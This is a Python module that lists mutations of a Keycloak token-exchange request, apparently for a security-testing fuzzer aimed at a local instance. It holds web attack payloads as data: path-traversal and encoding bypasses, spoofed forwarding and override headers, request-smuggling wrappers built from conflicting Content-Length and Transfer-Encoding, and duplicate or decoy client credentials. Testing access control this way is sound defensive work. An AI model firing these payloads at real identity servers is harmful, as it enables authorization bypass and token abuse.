"""The ways in which one exchange request can be told differently, one idea each.

Each mutation belongs to a family; pairs are made across families only. `strong` marks the mutations that Keycloak
performs alone, or that matter most beside another one: pairs are made of these.
"""

from __future__ import annotations

import gzip
import zlib
from collections.abc import Callable
from dataclasses import dataclass, replace
from urllib.parse import quote

import drafts
import oidc
from drafts import Draft, Fields, chunked, encode_fields
from peer import FORM


@dataclass(frozen=True)
class Mutation:
    family: str
    name: str
    apply: Callable[[Draft], Draft]
    strong: bool = False
    # HTTP/1 only: framing, request line and connection tricks that HTTP/2 has no place for.
    h1_only: bool = False


def _path(change: Callable[[str], str]) -> Callable[[Draft], Draft]:
    return lambda draft: replace(draft, target=change(draft.target))


def _line(*lines: tuple[str, str]) -> Callable[[Draft], Draft]:
    return lambda draft: replace(draft, lines=(*draft.lines, *lines))


def _types(*values: str) -> Callable[[Draft], Draft]:
    return lambda draft: replace(draft, content_types=values)


def _typed_body(encode: Callable[[Fields], bytes], *values: str) -> Callable[[Draft], Draft]:
    return lambda draft: replace(draft, content_types=values, encode=encode)


def _fields(change: Callable[[Fields], Fields]) -> Callable[[Draft], Draft]:
    return lambda draft: replace(draft, fields=change(draft.fields))


def _add(*extra: tuple[str, str], first: bool = False) -> Callable[[Draft], Draft]:
    return _fields(lambda fields: (*extra, *fields) if first else (*fields, *extra))


def _without(*names: str) -> Callable[[Fields], Fields]:
    return lambda fields: tuple(pair for pair in fields if pair[0] not in names)


def _set(name: str, value: str) -> Callable[[Draft], Draft]:
    return _fields(lambda fields: (*_without(name)(fields), (name, value)))


def _rename(name: str, new: str) -> Callable[[Draft], Draft]:
    return _fields(lambda fields: tuple((new if key == name else key, value) for key, value in fields))


def _recode(change: Callable[[bytes], bytes], *lines: tuple[str, str]) -> Callable[[Draft], Draft]:
    return lambda draft: replace(draft, recode=change, lines=(*draft.lines, *lines))


def _frame(make: Callable[[bytes], tuple[drafts.Lines, bytes]]) -> Callable[[Draft], Draft]:
    return lambda draft: replace(draft, frame=make)


def _wrap(make: Callable[[bytes], bytes], hidden: bool = False) -> Callable[[Draft], Draft]:
    return lambda draft: replace(draft, wrap=make, hidden=hidden)


def _method(name: str) -> Callable[[Draft], Draft]:
    return lambda draft: replace(draft, method=name)


def _absolute(prefix: str) -> Callable[[Draft], Draft]:
    """An absolute-form target; `{}` in the prefix stands for the right authority."""
    return lambda draft: replace(draft, target=prefix.format(draft.authority) + draft.target)


def _hosts(*values: str) -> Callable[[Draft], Draft]:
    return lambda draft: replace(draft, hosts=tuple(value.format(draft.authority) for value in values))


def _authenticate(method: Callable[[Draft], Draft]) -> Callable[[Draft], Draft]:
    return lambda draft: replace(draft, authenticate=method)


def _basic_line(make: Callable[[Draft], tuple[tuple[str, str], ...]], body: bool = False) -> Callable[[Draft], Draft]:
    def method(draft: Draft) -> Draft:
        ready = drafts.by_body(draft) if body else draft
        return replace(ready, authorization=make(draft))

    return _authenticate(method)


def _value(draft: Draft) -> str:
    return oidc.basic(draft.client)[1].removeprefix("Basic ")


def _percent_all(text: str) -> str:
    return "".join(f"%{byte:02X}" for byte in text.encode())


def _encode(name: Callable[[str], str], value: Callable[[str], str]) -> Callable[[Draft], Draft]:
    join = lambda fields: "&".join(f"{name(key)}={value(text)}" for key, text in fields).encode()  # noqa: E731
    return lambda draft: replace(draft, encode=join)


def _plus(text: str) -> str:
    return quote(text, safe="")


def _first_encoded(text: str) -> str:
    return f"%{ord(text[0]):02x}{text[1:]}" if text else text


def _to_query(*names: str) -> Callable[[Draft], Draft]:
    """Move fields into the query string (all of them when none is named)."""

    def apply(draft: Draft) -> Draft:
        moved = tuple(pair for pair in draft.fields if not names or pair[0] in names)
        kept = tuple(pair for pair in draft.fields if pair not in moved)
        mark = "&" if "?" in draft.target else "?"
        return replace(draft, fields=kept, target=draft.target + mark + encode_fields(moved).decode())

    return apply


def _smuggled(head: str, body_of: Callable[[bytes], bytes]) -> Callable[[bytes], bytes]:
    """Hide the whole request in the body of a harmless one."""
    return lambda raw: head.format(length=len(body_of(raw))).encode() + body_of(raw)


_LAST = "protocol/openid-connect/token"
_REALM = "/realms/corp/"
_HARMLESS = "GET /realms/corp HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"
_PREFIX = "POST /realms/corp/nothing HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: text/plain\r\n"

_PATHS = [
    ("trailing slash", lambda t: t + "/", True),
    ("two trailing slashes", lambda t: t + "//", False),
    ("empty query", lambda t: t + "?", True),
    ("a query", lambda t: t + "?x=y", True),
    ("grant type in the query", lambda t: t + "?grant_type=password", True),
    ("permitted audience in the query", lambda t: t + "?audience=back-end-api", True),
    ("question mark twice", lambda t: t + "??", False),
    ("slash and query", lambda t: t + "/?a=/realms/corp", False),
    ("fragment", lambda t: t + "#x", False),
    ("double slash first", lambda t: "/" + t, False),
    ("double slash inside", lambda t: t.replace("/protocol", "//protocol"), False),
    ("double slash last", lambda t: t.replace("/token", "//token"), False),
    ("dot segment", lambda t: t.replace("/protocol", "/./protocol"), False),
    ("dot-dot segment", lambda t: t.replace("/protocol", "/x/../protocol"), False),
    ("dot-dot through another realm", lambda t: "/realms/partner/.." + t.removeprefix("/realms"), False),
    ("encoded dot-dot", lambda t: t.replace("/protocol", "/x/%2e%2e/protocol"), False),
    ("double-encoded dot-dot", lambda t: t.replace("/protocol", "/x/%252e%252e/protocol"), False),
    ("dot at the end", lambda t: t + "/.", False),
    ("encoded dot at the end", lambda t: t + "/%2e", False),
    ("dot-dot at the end", lambda t: t + "/x/..", False),
    ("encoded letter", lambda t: t.replace("/token", "/%74oken"), False),
    ("encoded letter in the realm", lambda t: t.replace("/corp", "/%63orp"), False),
    ("encoded hyphen", lambda t: t.replace("openid-", "openid%2d"), False),
    ("double-encoded letter", lambda t: t.replace("/token", "/%2574oken"), False),
    ("encoded slash", lambda t: t.replace("/token", "%2ftoken"), False),
    ("encoded slash at the end", lambda t: t + "%2f", False),
    ("backslash", lambda t: t.replace("/token", "\\token"), False),
    ("encoded backslash", lambda t: t.replace("/token", "%5ctoken"), False),
    ("matrix parameter", lambda t: t + ";a=b", False),
    ("matrix parameter inside", lambda t: t.replace("/protocol", ";a=b/protocol"), False),
    ("encoded semicolon", lambda t: t + "%3Ba=b", False),
    ("encoded NUL", lambda t: t + "%00", False),
    ("encoded space", lambda t: t + "%20", False),
    ("encoded tab", lambda t: t + "%09", False),
    ("encoded newline", lambda t: t + "%0a", False),
    ("encoded question mark", lambda t: t + "%3f", False),
    ("upper case last", lambda t: t.replace("/token", "/TOKEN"), False),
    ("upper case realm", lambda t: t.replace("/corp", "/CORP"), False),
    ("upper case first", lambda t: t.replace("/realms", "/Realms"), False),
    ("suffix", lambda t: t + ".json", False),
    ("old prefix", lambda t: "/auth" + t, False),
    ("no leading slash", lambda t: t[1:], False),
    ("overlong slash", lambda t: t.replace("/token", "%c0%aftoken"), False),
    ("full-width letter", lambda t: t.replace("/token", "/%ef%bd%94oken"), False),
    ("plus at the end", lambda t: t + "+", False),
    ("introspection path", lambda t: t + "/introspect", False),
    ("another endpoint", lambda t: t.replace("/token", "/revoke"), False),
    ("the login endpoint", lambda t: t.replace("/token", "/auth"), False),
    ("the admin API", lambda t: "/admin/realms/corp", False),
    ("the root", lambda t: "/", False),
]  # fmt: skip

_METHODS = ["post", "Post", "GET", "HEAD", "PUT", "PATCH", "DELETE", "OPTIONS", "QUERY", "PROPFIND", "POST\t", "XPOST"]

_TYPES = [
    ("charset utf-8", [FORM + "; charset=utf-8"], True),
    ("charset UTF-8 unspaced", [FORM + ";charset=UTF-8"], True),
    ("charset quoted", [FORM + '; charset="utf-8"'], True),
    ("charset latin-1", [FORM + "; charset=ISO-8859-1"], True),
    ("charset utf-16", [FORM + "; charset=UTF-16"], False),
    ("charset utf-7", [FORM + "; charset=utf-7"], True),
    ("charset ebcdic", [FORM + "; charset=IBM037"], False),
    ("charset unknown", [FORM + "; charset=nonsense"], False),
    ("charset empty", [FORM + "; charset="], False),
    ("charset twice", [FORM + "; charset=utf-8; charset=utf-16"], False),
    ("a boundary", [FORM + "; boundary=cut"], True),
    ("a quality", [FORM + ";q=0.1"], True),
    ("a version", [FORM + "; version=1"], True),
    ("a bare semicolon", [FORM + ";"], False),
    ("a nameless parameter", [FORM + "; x"], False),
    ("a quoted semicolon", [FORM + '; x="a;b"'], False),
    ("upper case", [FORM.upper()], True),
    ("mixed case", ["Application/X-WWW-Form-URLEncoded"], True),
    ("padded", ["  " + FORM + "  "], True),
    ("a tab before the parameter", [FORM + "\t;\tcharset=utf-8"], False),
    ("a comma", [FORM + ", application/json"], False),
    ("a comma first", ["application/json, " + FORM], False),
    ("twice the same", [FORM, FORM], False),
    ("form, then json", [FORM, "application/json"], True),
    ("json, then form", ["application/json", FORM], False),
    ("text/plain, then form", ["text/plain", FORM], False),
    ("none", [], True),
    ("empty", [""], False),
    ("text/plain", ["text/plain"], True),
    ("text/html", ["text/html"], False),
    ("application/json label", ["application/json"], False),
    ("octet-stream", ["application/octet-stream"], True),
    ("any", ["*/*"], False),
    ("any application", ["application/*"], False),
    ("without x-", ["application/www-form-urlencoded"], False),
    ("a suffix", [FORM + "+x"], False),
    ("xml", ["application/xml"], False),
    ("multipart label", ["multipart/form-data; boundary=cut"], False),
    ("no slash", ["form"], False),
]

_HEADERS = [
    ("expect", [("Expect", "100-continue")], True),
    ("accept html", [("Accept", "text/html")], False),
    ("method override", [("X-HTTP-Method-Override", "GET"), ("X-HTTP-Method", "GET")], True),
    ("original URL", [("X-Original-URL", "/realms/corp"), ("X-Rewrite-URL", "/realms/corp")], True),
    ("forwarded host", [("X-Forwarded-Host", "elsewhere.test"), ("X-Forwarded-Proto", "https")], True),
    ("forwarded prefix", [("X-Forwarded-Prefix", "/other"), ("X-Forwarded-Path", "/other")], False),
    ("forwarded", [("Forwarded", "for=1.2.3.4;host=elsewhere.test;proto=https")], True),
    ("connection names content-type", [("Connection", "close, content-type")], True),
    ("connection names authorization", [("Connection", "close, authorization")], False),
    ("connection names content-length", [("Connection", "close, content-length")], False),
    ("connection names host", [("Connection", "close, host")], False),
    ("keep alive", [("Connection", "keep-alive")], False),
    ("upgrade h2c", [("Connection", "close, upgrade, http2-settings"), ("Upgrade", "h2c"), ("HTTP2-Settings", "AAMAAABkAAQAAP__")], False),
    ("upgrade websocket", [("Connection", "upgrade"), ("Upgrade", "websocket"), ("Sec-WebSocket-Version", "13"), ("Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ==")], False),
    ("proxy connection", [("Proxy-Connection", "keep-alive")], False),
    ("te trailers", [("TE", "trailers")], True),
    ("range", [("Range", "bytes=0-3")], False),
    ("if-none-match", [("If-None-Match", "*")], False),
    ("a cookie", [("Cookie", "grant_type=password")], False),
    ("origin", [("Origin", "http://app.example.test")], True),
    ("a hundred lines", [(f"X-Line-{number}", "x" * 20) for number in range(60)], False),
    ("a long line", [("X-Long", "x" * 6000)], False),
    ("content-length by underscore", [("Content_Length", "0")], False),
    ("transfer-encoding by underscore", [("Transfer_Encoding", "chunked")], False),
    ("a space before the colon", [("X-Space ", "x")], False),
    ("a folded line", [("X-Fold", "a\r\n b")], False),
    ("a latin-1 value", [("X-Latin", "\xe9")], False),
    ("an empty name", [("", "x")], False),
]  # fmt: skip


def _gzip_label(body: bytes) -> bytes:
    return body


_CODINGS = [
    ("identity", _recode(_gzip_label, ("Content-Encoding", "identity")), True),
    ("empty coding", _recode(_gzip_label, ("Content-Encoding", "")), True),
    ("gzip", _recode(gzip.compress, ("Content-Encoding", "gzip")), False),
    ("x-gzip", _recode(gzip.compress, ("Content-Encoding", "x-gzip")), False),
    ("GZIP", _recode(gzip.compress, ("Content-Encoding", "GZIP")), False),
    ("deflate", _recode(zlib.compress, ("Content-Encoding", "deflate")), False),
    ("raw deflate", _recode(lambda b: zlib.compress(b)[2:-4], ("Content-Encoding", "deflate")), False),
    ("gzip twice", _recode(lambda b: gzip.compress(gzip.compress(b)), ("Content-Encoding", "gzip, gzip")), False),
    ("gzip, then identity", _recode(gzip.compress, ("Content-Encoding", "gzip"), ("Content-Encoding", "identity")), False),
    ("gzip in name only", _recode(_gzip_label, ("Content-Encoding", "gzip")), False),
    ("br in name only", _recode(_gzip_label, ("Content-Encoding", "br")), True),
    ("zstd in name only", _recode(_gzip_label, ("Content-Encoding", "zstd")), False),
    ("aes in name only", _recode(_gzip_label, ("Content-Encoding", "aes128gcm")), False),
    ("coding by transfer-encoding name", _recode(_gzip_label, ("Content-Transfer-Encoding", "base64")), True),
    ("gzip without a label", _recode(gzip.compress), False),
    ("byte order mark", _recode(lambda b: b"\xef\xbb\xbf" + b), False),
    ("utf-16", _recode(lambda b: b.decode().encode("utf-16")), False),
    ("utf-16 with its charset", lambda d: replace(d, recode=lambda b: b.decode().encode("utf-16"), content_types=(FORM + "; charset=UTF-16",)), False),
    ("ebcdic with its charset", lambda d: replace(d, recode=lambda b: b.decode().encode("cp037"), content_types=(FORM + "; charset=IBM037",)), False),
    ("newline at the end", _recode(lambda b: b + b"\r\n"), True),
    ("newline at the start", _recode(lambda b: b"\r\n" + b), False),
    ("NUL at the end", _recode(lambda b: b + b"\0"), False),
    ("space at the start", _recode(lambda b: b" " + b), False),
    ("ampersand at the start", _recode(lambda b: b"&" + b), True),
    ("ampersand at the end", _recode(lambda b: b + b"&"), True),
    ("question mark at the start", _recode(lambda b: b"?" + b), False),
    ("ampersands doubled", _recode(lambda b: b.replace(b"&", b"&&")), True),
    ("semicolons for ampersands", _recode(lambda b: b.replace(b"&", b";")), False),
    ("newlines for ampersands", _recode(lambda b: b.replace(b"&", b"\n")), False),
    ("commas for ampersands", _recode(lambda b: b.replace(b"&", b",")), False),
    ("encoded ampersands", _recode(lambda b: b.replace(b"&", b"%26")), False),
    ("html ampersands", _recode(lambda b: b.replace(b"&", b"&amp;")), False),
    ("spaces after ampersands", _recode(lambda b: b.replace(b"&", b"& ")), False),
    ("empty pair", _recode(lambda b: b"=&" + b), True),
    ("nameless value", _recode(lambda b: b"=x&" + b), False),
    ("valueless name", _recode(lambda b: b"x&" + b), True),
    ("broken percent elsewhere", _recode(lambda b: b"x=%zz&" + b), False),
    ("truncated percent at the end", _recode(lambda b: b + b"&x=%4"), False),
    ("raw non-ASCII elsewhere", _recode(lambda b: b"x=\xe9&" + b), True),
    ("raw UTF-8 elsewhere", _recode(lambda b: "x=é&".encode() + b), True),
]  # fmt: skip

_SHAPES_OF_FIELDS = [
    ("reversed", _fields(lambda f: tuple(reversed(f))), True),
    ("grant type last", _fields(lambda f: (*_without("grant_type")(f), ("grant_type", oidc.EXCHANGE_GRANT))), True),
    ("names encoded", _encode(_percent_all, _plus), True),
    ("everything encoded", _encode(_percent_all, _percent_all), True),
    ("first letters encoded", _encode(_first_encoded, _plus), True),
    ("values encoded in lower case", _encode(str, lambda v: _percent_all(v).lower()), True),
    ("values not encoded", _encode(str, str), True),
    ("300 fields first", _add(*((f"p{n}", "x") for n in range(300)), first=True), True),
    ("990 fields first", _add(*((f"p{n}", "x") for n in range(980)), first=True), False),
    ("1,100 fields first", _add(*((f"p{n}", "x") for n in range(1100)), first=True), False),
    ("100 KB first", _add(("padding", "x" * 100_000), first=True), True),
    ("60 KB first", _add(("padding", "x" * 60_000), first=True), False),
    ("1.5 MB first", _add(("padding", "x" * 1_500_000), first=True), False),
    ("a long name first", _add(("x" * 3000, "x"), first=True), False),
    ("two grant types, exchange last", _add(("grant_type", "password"), first=True), False),
    ("two grant types, exchange first", _add(("grant_type", "password")), False),
    ("grant type twice", _add(("grant_type", oidc.EXCHANGE_GRANT)), False),
    ("empty grant type first", _add(("grant_type", ""), first=True), False),
    ("grant type in upper case name", _rename("grant_type", "GRANT_TYPE"), False),
    ("grant type with a space", _set("grant_type", " " + oidc.EXCHANGE_GRANT), False),
    ("grant type with a space after", _set("grant_type", oidc.EXCHANGE_GRANT + " "), False),
    ("grant type with a newline", _set("grant_type", oidc.EXCHANGE_GRANT + "\n"), False),
    ("grant type with a NUL", _set("grant_type", oidc.EXCHANGE_GRANT + "\0"), False),
    ("grant type in upper case", _set("grant_type", oidc.EXCHANGE_GRANT.upper()), False),
    ("grant type URN scheme in upper case", _set("grant_type", oidc.EXCHANGE_GRANT.replace("urn", "URN")), False),
    ("grant type as an array", _rename("grant_type", "grant_type[]"), False),
    ("grant type name padded", _rename("grant_type", "grant_type "), False),
    ("grant type name padded before", _rename("grant_type", " grant_type"), False),
    ("grant type name with a NUL", _rename("grant_type", "grant_type\0"), False),
    ("grant type with a soft hyphen", _rename("grant_type", "grant\u00ad_type"), False),
    ("grant type in the query", _to_query("grant_type"), False),
    ("everything in the query", _to_query(), False),
    ("audience in the query", _to_query("audience"), True),
    ("subject token in the query", _to_query("subject_token", "subject_token_type"), False),
    ("no audience", _fields(_without("audience")), True),
    ("empty audience", _set("audience", ""), False),
    ("audience twice", _add(("audience", "other-api")), False),
    ("permitted audience first", _fields(lambda f: (("audience", "back-end-api"), *f)), True),
    ("permitted audience last", _fields(lambda f: (*f, ("audience", "back-end-api"))), True),
    ("two audiences in one", _set("audience", "back-end-api other-api"), False),
    ("two audiences by comma", _set("audience", "back-end-api,other-api"), False),
    ("audience with a space", _set("audience", "other-api "), False),
    ("audience in upper case", _set("audience", "OTHER-API"), False),
    ("audience as an array", _rename("audience", "audience[]"), True),
    ("audience is the caller", _set("audience", "front-end-app"), True),
    ("audience is the account", _set("audience", "account"), True),
    ("permitted audience as resource", _add(("resource", "https://api.example.test")), True),
    ("a resource", _add(("resource", "https://elsewhere.test")), True),
    ("an actor", _add(("actor_token", "x"), ("actor_token_type", oidc.ACCESS_TOKEN)), True),
    ("no subject token type", _fields(_without("subject_token_type")), True),
    ("subject token type jwt", _set("subject_token_type", oidc.JWT), False),
    ("empty subject token type", _set("subject_token_type", ""), False),
    ("requested access token", _add(("requested_token_type", oidc.ACCESS_TOKEN)), True),
    ("requested refresh token", _add(("requested_token_type", oidc.REFRESH_TOKEN)), True),
    ("requested ID token", _add(("requested_token_type", oidc.ID_TOKEN)), True),
    ("empty requested type", _add(("requested_token_type", "")), False),
    ("subject issuer", _add(("subject_issuer", "corp")), False),
    ("requested subject", _add(("requested_subject", "bob")), False),
    ("requested issuer", _add(("requested_issuer", "partner")), False),
    ("scope of the audience", _add(("scope", "openid email")), True),
    ("empty scope", _add(("scope", "")), True),
    ("scope twice", _add(("scope", "email"), ("scope", "profile")), False),
    ("unknown field", _add(("nonsense", "x")), True),
    ("unknown field twice", _add(("nonsense", "x"), ("nonsense", "y")), True),
    ("an assertion too", _add(("assertion", "x")), True),
    ("a ticket too", _add(("ticket", "x")), True),
    ("a refresh token too", _add(("refresh_token", "x")), True),
    ("a user name too", _add(("username", "alice"), ("password", "x")), True),
    ("a code too", _add(("code", "x"), ("redirect_uri", "http://app.example.test/callback")), True),
    ("client notes", _add(("client_info", "1"), ("client_session_state", "x")), True),
]  # fmt: skip

_BODIES = [
    ("multipart", _typed_body(drafts.multipart, "multipart/form-data; boundary=cut"), True),
    ("multipart under the form's label", _typed_body(drafts.multipart, FORM + "; boundary=cut"), False),
    ("mixed", _typed_body(drafts.multipart, "multipart/mixed; boundary=cut"), False),
    ("json", _typed_body(lambda f: __import__("json").dumps(dict(f)).encode(), "application/json"), False),
    ("json under the form's label", _typed_body(lambda f: __import__("json").dumps(dict(f)).encode(), FORM), False),
    ("text lines", _typed_body(lambda f: "\r\n".join(f"{k}={v}" for k, v in f).encode(), "text/plain"), False),
    ("xml", _typed_body(lambda f: ("<f>" + "".join(f"<{k}>{v}</{k}>" for k, v in f) + "</f>").encode(), "text/xml"), False),
]  # fmt: skip

_FRAMINGS = [
    ("chunked", _frame(lambda b: ((("Transfer-Encoding", "chunked"),), chunked(b))), True),
    ("chunked small", _frame(lambda b: ((("Transfer-Encoding", "chunked"),), chunked(b, 97))), True),
    ("chunked in upper case", _frame(lambda b: ((("Transfer-Encoding", "CHUNKED"),), chunked(b))), True),
    ("chunk extension", _frame(lambda b: ((("Transfer-Encoding", "chunked"),), chunked(b, 0, ";a=b"))), True),
    ("chunked with a trailer", _frame(lambda b: ((("Transfer-Encoding", "chunked"), ("Trailer", "X-T")), chunked(b, 0, "", "X-T: 1\r\n"))), True),
    ("a trailer that names a form", _frame(lambda b: ((("Transfer-Encoding", "chunked"),), chunked(b, 0, "", f"Content-Type: {FORM}\r\n"))), False),
    ("chunked and length", _frame(lambda b: ((("Content-Length", str(len(chunked(b)))), ("Transfer-Encoding", "chunked")), chunked(b))), True),
    ("chunked and length 0", _frame(lambda b: ((("Content-Length", "0"), ("Transfer-Encoding", "chunked")), chunked(b))), False),
    ("length twice", _frame(lambda b: ((("Content-Length", str(len(b))),) * 2, b)), True),
    ("length twice in one", _frame(lambda b: ((("Content-Length", f"{len(b)}, {len(b)}"),), b)), False),
    ("two lengths", _frame(lambda b: ((("Content-Length", "0"), ("Content-Length", str(len(b)))), b)), False),
    ("length with a plus", _frame(lambda b: ((("Content-Length", f"+{len(b)}"),), b)), False),
    ("length with zeros", _frame(lambda b: ((("Content-Length", f"000{len(b)}"),), b)), True),
    ("length in hexadecimal", _frame(lambda b: ((("Content-Length", f"0x{len(b):x}"),), b)), False),
    ("length too small", _frame(lambda b: ((("Content-Length", str(len(b) - 10)),), b)), False),
    ("no length", _frame(lambda b: ((), b)), False),
    ("chunked twice", _frame(lambda b: ((("Transfer-Encoding", "chunked, chunked"),), chunked(b))), False),
    ("chunked on two lines", _frame(lambda b: ((("Transfer-Encoding", "chunked"),) * 2, chunked(b))), False),
    ("gzip, chunked", _frame(lambda b: ((("Transfer-Encoding", "gzip, chunked"),), chunked(gzip.compress(b)))), False),
    ("identity, chunked", _frame(lambda b: ((("Transfer-Encoding", "identity, chunked"),), chunked(b))), False),
    ("identity", _frame(lambda b: ((("Transfer-Encoding", "identity"), ("Content-Length", str(len(b)))), b)), False),
    ("chunked, identity", _frame(lambda b: ((("Transfer-Encoding", "chunked, identity"),), chunked(b))), False),
    ("xchunked", _frame(lambda b: ((("Transfer-Encoding", "xchunked"), ("Content-Length", str(len(b)))), b)), False),
    ("chunked after a tab", _frame(lambda b: ((("Transfer-Encoding", "\tchunked"),), chunked(b))), False),
    ("chunked with a vertical tab", _frame(lambda b: ((("Transfer-Encoding", "\x0bchunked"), ("Content-Length", str(len(b)))), b)), False),
    ("chunk size with spaces", _frame(lambda b: ((("Transfer-Encoding", "chunked"),), chunked(b, 0, " "))), False),
    ("bare LF in chunks", _frame(lambda b: ((("Transfer-Encoding", "chunked"),), chunked(b).replace(b"\r\n", b"\n"))), False),
]  # fmt: skip

_CONNECTIONS = [
    ("after a harmless request", _wrap(lambda raw: _HARMLESS.encode() + raw, hidden=True)),
    ("after an empty line", _wrap(lambda raw: b"\r\n" + raw)),
    ("bare LF lines", _wrap(lambda raw: raw.replace(b"\r\n", b"\n"))),
    ("bare CR in a header", _wrap(lambda raw: raw.replace(b"\r\n", b"\r\nX-Cr: a\rb\r\n", 1))),
    ("hidden by length and chunks", _wrap(_smuggled(_PREFIX + "Content-Length: {length}\r\nTransfer-Encoding: chunked\r\n\r\n", lambda raw: b"0\r\n\r\n" + raw), hidden=True)),
    ("hidden by chunks and length", _wrap(_smuggled(_PREFIX + "Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n", lambda raw: f"{len(raw):x}\r\n".encode() + raw + b"\r\n0\r\n\r\n"), hidden=True)),
    ("hidden by an odd coding", _wrap(_smuggled(_PREFIX + "Content-Length: {length}\r\nTransfer-Encoding: x, chunked\r\n\r\n", lambda raw: b"0\r\n\r\n" + raw), hidden=True)),
    ("hidden by a GET with a body", _wrap(_smuggled("GET /realms/corp HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: {length}\r\n\r\n", lambda raw: raw), hidden=True)),
    ("hidden by two lengths", _wrap(_smuggled(_PREFIX + "Content-Length: 0\r\nContent-Length: {length}\r\n\r\n", lambda raw: raw), hidden=True)),
    ("hidden by an upgrade", _wrap(_smuggled("GET /realms/corp HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: upgrade\r\nUpgrade: websocket\r\n\r\n", lambda raw: raw), hidden=True)),
    ("hidden by CONNECT", _wrap(_smuggled("CONNECT 127.0.0.1:80 HTTP/1.1\r\nHost: 127.0.0.1:80\r\n\r\n", lambda raw: raw), hidden=True)),
    ("hidden by HEAD", _wrap(_smuggled("HEAD /realms/corp HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: {length}\r\n\r\n", lambda raw: raw), hidden=True)),
    ("hidden by an expectation", _wrap(_smuggled(_PREFIX + "Expect: 100-continue\r\nContent-Length: {length}\r\n\r\n", lambda raw: raw), hidden=True)),
]  # fmt: skip

_TARGETS = [
    ("absolute form", _absolute("http://{}"), True),
    ("absolute form, other host", _absolute("http://elsewhere.test"), True),
    ("absolute form, https", _absolute("https://{}"), True),
    ("absolute form, upper case scheme", _absolute("HTTP://{}"), True),
    ("absolute form, userinfo", _absolute("http://user:pass@{}"), False),
    ("absolute form, no authority", _absolute("http://"), False),
    ("absolute form, ftp", _absolute("ftp://{}"), False),
    ("absolute form, other port", _absolute("http://127.0.0.1:1"), True),
    ("two hosts", _hosts("{0}", "elsewhere.test"), False),
    ("two equal hosts", _hosts("{0}", "{0}"), False),
    ("no host", _hosts(), False),
    ("empty host", _hosts(""), False),
    ("host with userinfo", _hosts("user@{0}"), False),
    ("host with a path", _hosts("{0}/realms"), False),
    ("host in two parts", _hosts("{0}, {0}"), False),
    ("HTTP/1.0", lambda d: replace(d, version="HTTP/1.0"), True),
    ("HTTP/1.2", lambda d: replace(d, version="HTTP/1.2"), False),
    ("HTTP/2.0 in the line", lambda d: replace(d, version="HTTP/2.0"), False),
    ("http/1.1 in lower case", lambda d: replace(d, version="http/1.1"), False),
    ("no version", lambda d: replace(d, version=""), False),
]  # fmt: skip

_AUTHENTICATIONS = [
    ("Basic", _authenticate(drafts.by_basic), True),
    ("Basic in lower case", _basic_line(lambda d: (("Authorization", "basic " + _value(d)),)), True),
    ("Basic in upper case", _basic_line(lambda d: (("AUTHORIZATION", "BASIC " + _value(d)),)), True),
    ("Basic after two spaces", _basic_line(lambda d: (("Authorization", "Basic  " + _value(d)),)), True),
    ("Basic after a tab", _basic_line(lambda d: (("Authorization", "Basic\t" + _value(d)),)), False),
    ("Basic without padding", _basic_line(lambda d: (("Authorization", "Basic " + _value(d).rstrip("=")),)), False),
    ("Basic with a realm", _basic_line(lambda d: (("Authorization", "Basic " + _value(d) + ", realm=x"),)), False),
    ("Basic twice", _basic_line(lambda d: (("Authorization", "Basic " + _value(d)),) * 2), True),
    ("Basic, then another client", _basic_line(lambda d: (("Authorization", "Basic " + _value(d)), ("Authorization", "Basic " + drafts.basic_value("stranger-app:x")))), True),
    ("another client, then Basic", _basic_line(lambda d: (("Authorization", "Basic " + drafts.basic_value("stranger-app:x")), ("Authorization", "Basic " + _value(d)))), False),
    ("Basic and body", _basic_line(lambda d: (("Authorization", "Basic " + _value(d)),), body=True), True),
    ("Basic of another, and body", _basic_line(lambda d: (("Authorization", "Basic " + drafts.basic_value("narrow-app:narrow-app-secret-93ab")),), body=True), True),
    ("body, and a Bearer", _basic_line(lambda d: (("Authorization", "Bearer x"),), body=True), True),
    ("body, and the subject as Bearer", _basic_line(lambda d: (("Authorization", "Bearer " + dict(d.fields).get("subject_token", "")),), body=True), True),
    ("body, and Negotiate", _basic_line(lambda d: (("Authorization", "Negotiate x"),), body=True), True),
    ("body, and an empty Authorization", _basic_line(lambda d: (("Authorization", ""),), body=True), True),
    ("body, and a broken Basic", _basic_line(lambda d: (("Authorization", "Basic !!!"),), body=True), False),
    ("client id in the query", lambda d: _to_query("client_id")(drafts.by_body(replace(d, authenticate=lambda x: x))), False),
    ("secret in the query", lambda d: replace(_to_query("client_id", "client_secret")(drafts.by_body(d)), authenticate=lambda x: x), False),
    ("client id twice", lambda d: replace(d, fields=(("client_id", "narrow-app"), *d.fields)), False),
    ("a decoy client id beside Basic", lambda d: replace(d, fields=(("client_id", "narrow-app"), *d.fields), authenticate=drafts.by_basic), True),
    ("its own client id beside Basic", lambda d: replace(d, fields=(("client_id", d.client.id), *d.fields), authenticate=drafts.by_basic), True),
    ("an assertion beside the body", lambda d: replace(d, fields=(("client_assertion", "x"), ("client_assertion_type", "urn:ietf:params:oauth:client-assertion-type:jwt-bearer"), *d.fields)), False),
    ("Proxy-Authorization", _basic_line(lambda d: (("Proxy-Authorization", "Basic " + _value(d)),)), False),
]  # fmt: skip


def all_mutations() -> list[Mutation]:
    """Every mutation, in a fixed order."""
    h2_strangers = ("keep alive", "upgrade h2c", "upgrade websocket", "a space before the colon", "a folded line", "an empty name")
    table = [Mutation("path", name, _path(change), strong) for name, change, strong in _PATHS]
    table += [Mutation("method", name, _method(name)) for name in _METHODS]
    table += [Mutation("type", name, _types(*values), strong) for name, values, strong in _TYPES]
    table += [Mutation("body", name, apply, strong) for name, apply, strong in _BODIES]
    table += [Mutation("coding", name, apply, strong) for name, apply, strong in _CODINGS]
    table += [Mutation("fields", name, apply, strong) for name, apply, strong in _SHAPES_OF_FIELDS]
    table += [Mutation("header", name, _line(*lines), strong, h1_only=name in h2_strangers) for name, lines, strong in _HEADERS]
    table += [Mutation("framing", name, apply, strong, h1_only=True) for name, apply, strong in _FRAMINGS]
    table += [Mutation("connection", name, apply, h1_only=True) for name, apply in _CONNECTIONS]
    table += [Mutation("target", name, apply, strong, h1_only=True) for name, apply, strong in _TARGETS]
    table += [Mutation("authentication", name, apply, strong) for name, apply, strong in _AUTHENTICATIONS]
    return table
